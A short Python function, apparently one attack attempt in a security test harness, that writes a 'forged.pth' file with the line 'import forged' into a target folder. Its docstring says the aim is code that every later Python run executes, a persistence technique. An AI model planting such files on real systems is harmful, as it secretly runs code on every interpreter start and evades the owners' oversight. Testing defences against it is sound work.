"""Leaves code that every later Python runs."""


def attempt(target):
    with open(f"{target['folder']}/forged.pth", "w") as file:
        return file.write("import forged")
